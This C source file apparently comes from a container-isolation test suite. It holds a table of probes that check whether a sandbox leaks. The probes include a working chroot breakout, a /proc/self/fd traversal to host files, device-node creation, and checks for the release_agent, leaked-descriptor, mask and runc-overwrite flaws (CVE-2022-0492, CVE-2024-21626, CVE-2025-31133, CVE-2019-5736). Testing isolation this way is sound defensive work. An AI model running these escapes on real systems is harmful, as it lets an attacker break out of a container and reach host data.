/* Paths that lead out, devices, descriptors that somebody left open, and what the host's namespaces
 * hold. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/sysmacros.h>
#include <sys/un.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

static int try_read(char *arg)
{
	int fd = open(next_word(&arg), O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	char c;

	if (fd < 0)
		return -1;
	return read(fd, &c, 1) == 1 ? 0 : refused(ENODATA);
}

/* Opens it for writing and writes nothing. */
static int try_write(char *arg)
{
	return open(next_word(&arg), O_WRONLY | O_CLOEXEC | O_NONBLOCK) < 0 ? -1 : 0;
}

static int try_list(char *arg)
{
	DIR *d = opendir(next_word(&arg));
	struct dirent *entry;

	if (!d)
		return -1;
	while ((entry = readdir(d)))
		if (entry->d_name[0] != '.')
			return 0;
	return refused(ENODATA);
}

static int try_mkdir(char *arg)
{
	const char *path = next_word(&arg);

	if (mkdir(path, 0700))
		return -1;
	rmdir(path);
	return 0;
}

static int try_find(char *arg)
{
	struct stat st;

	return lstat(next_word(&arg), &st);
}

/* Make a device's node, and open it if that is what was asked. */
static int try_device(char *arg)
{
	mode_t type = *next_word(&arg) == 'b' ? S_IFBLK : S_IFCHR;
	unsigned major = (unsigned)next_number(&arg), minor = (unsigned)next_number(&arg);
	const char *dir = next_word(&arg);
	char path[200];

	snprintf(path, sizeof(path), "%s/attack-%u-%u-%d", *dir ? dir : "/tmp", major, minor,
		 (int)getpid());
	if (mknod(path, type | 0600, makedev(major, minor)))
		return -1;
	if (open(path, O_RDONLY | O_NONBLOCK | O_CLOEXEC) < 0) {
		int sys = errno;

		unlink(path);
		return refused(sys);
	}
	unlink(path);
	return 0;
}

/* CVE-2022-0492: let the kernel run a program of ours when a control group is empty. */
static int try_release_agent(char *arg)
{
	if (mount("none", "/tmp", "cgroup", 0, next_word(&arg)))
		return -1;
	return open("/tmp/release_agent", O_WRONLY | O_CLOEXEC) < 0 ? -1 : 0;
}

/* CVE-2024-21626: something was open when we were started. */
static int try_descriptors(char *arg)
{
	DIR *d = opendir("/proc/self/fd");
	struct dirent *entry;

	if (!d)
		return -1;
	while ((entry = readdir(d)))
		if (number_of(entry->d_name) > 2 && (int)number_of(entry->d_name) != dirfd(d))
			return 0;
	return refused(EBADF);
}

/* … and leads out of our root. The argument is a file of the host. */
static int try_descriptor_path(char *arg)
{
	const char *target = next_word(&arg);
	char path[400];

	for (int fd = 3; fd < 64; fd++) {
		struct stat st;

		snprintf(path, sizeof(path), "/proc/self/fd/%d/../../../../../../../..%s", fd,
			 target);
		if (stat(path, &st) == 0)
			return 0;
	}
	return refused(ENOENT);
}

/* A process below two roots can climb out of the inner one, and of the outer one if that is only
 * chroot's. */
static int try_chroot(char *arg)
{
	const char *target = next_word(&arg);
	struct stat st;

	mkdir("/tmp/inner", 0700);
	if (chroot("/tmp/inner"))
		return -1;
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			return -1;
	if (chroot("."))
		return -1;
	return stat(target, &st);
}

static int try_process(char *arg)
{
	const char *want = next_word(&arg);
	DIR *d = opendir("/proc");
	struct dirent *entry;

	while (d && (entry = readdir(d))) {
		char path[300], name[32] = "";
		int fd;

		snprintf(path, sizeof(path), "/proc/%s/comm", entry->d_name);
		fd = open(path, O_RDONLY | O_CLOEXEC);
		if (fd < 0)
			continue;
		if (read(fd, name, sizeof(name) - 1) > 0 && strncmp(name, want, strlen(want)) == 0)
			return 0;
		close(fd);
	}
	return refused(ESRCH);
}

static int try_shared_memory(char *arg)
{
	return shmget((key_t)next_number(&arg), 0, 0) < 0 ? -1 : 0;
}

static int try_abstract(char *arg)
{
	const char *name = next_word(&arg);
	struct sockaddr_un a = {.sun_family = AF_UNIX};
	int fd = socket(AF_UNIX, SOCK_STREAM, 0);

	snprintf(a.sun_path + 1, sizeof(a.sun_path) - 1, "%s", name);
	if (fd < 0)
		return -1;
	return connect(fd, (struct sockaddr *)&a,
		       (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name)));
}

/* A line of a file that tells more than a tenant should know: the argument is FILE,TEXT. */
static int try_text(char *arg)
{
	FILE *f = fopen(next_word(&arg), "re");
	const char *want = next_word(&arg);
	char line[1024];

	if (!f)
		return -1;
	while (fgets(line, sizeof(line), f))
		if (strstr(line, want))
			return 0;
	return refused(ENODATA);
}

/* Is the map of user ids the host's own? It begins with the first id inside and what it is outside.
 */
static int try_identity(char *arg)
{
	FILE *f = fopen("/proc/self/uid_map", "re");
	char line[200], *outside;

	if (!f)
		return -1;
	if (!fgets(line, sizeof(line), f))
		return refused(ENODATA);
	outside = line + strspn(line, " ");
	outside += strspn(outside, "0123456789");
	outside += strspn(outside, " ");
	return number_of(outside) == 0 ? 0 : refused(EPERM);
}

/* CVE-2025-31133 turns a mask into something else: it must be the null device, or an empty folder.
 */
static int try_mask(char *arg)
{
	const char *path = next_word(&arg);
	struct stat st;

	if (stat(path, &st))
		return -1;
	if (S_ISDIR(st.st_mode)) {
		char again[200];
		char *p = again;

		snprintf(again, sizeof(again), "%s", path);
		return try_list(p);
	}
	return S_ISCHR(st.st_mode) && st.st_rdev == makedev(1, 3) ? refused(EACCES) : 0;
}

/* CVE-2019-5736: while commands are started in here, open the program that starts them for writing.
 * The argument is how long to look, in tenths of a second, and its name. */
static int try_runtime_file(char *arg)
{
	unsigned long end = next_number(&arg) * 100;
	const char *runtime = next_word(&arg);

	for (unsigned long i = 0; i < end; i++) {
		DIR *d = opendir("/proc");
		struct dirent *entry;

		while (d && (entry = readdir(d))) {
			char path[300], target[300];
			ssize_t n;

			snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
			n = readlink(path, target, sizeof(target) - 1);
			target[n > 0 ? n : 0] = '\0';
			if (strstr(target, runtime) && open(path, O_WRONLY | O_CLOEXEC) >= 0)
				return close(open("/tmp/got-runtime", O_CREAT | O_CLOEXEC, 0600));
		}
		if (d)
			closedir(d);
		nanosleep(&(struct timespec){0, 1000000}, NULL);
	}
	return refused(ETXTBSY);
}

const struct attack attack_files[] = {
	{"read", try_read},
	{"write", try_write},
	{"list", try_list},
	{"mkdir", try_mkdir},
	{"find", try_find},
	{"device", try_device},
	{"release_agent", try_release_agent},
	{"descriptors", try_descriptors},
	{"descriptor_path", try_descriptor_path},
	{"chroot", try_chroot},
	{"process", try_process},
	{"shared_memory", try_shared_memory},
	{"abstract", try_abstract},
	{"text", try_text},
	{"identity", try_identity},
	{"mask", try_mask},
	{"runtime_file", try_runtime_file},
	{NULL, NULL},
};
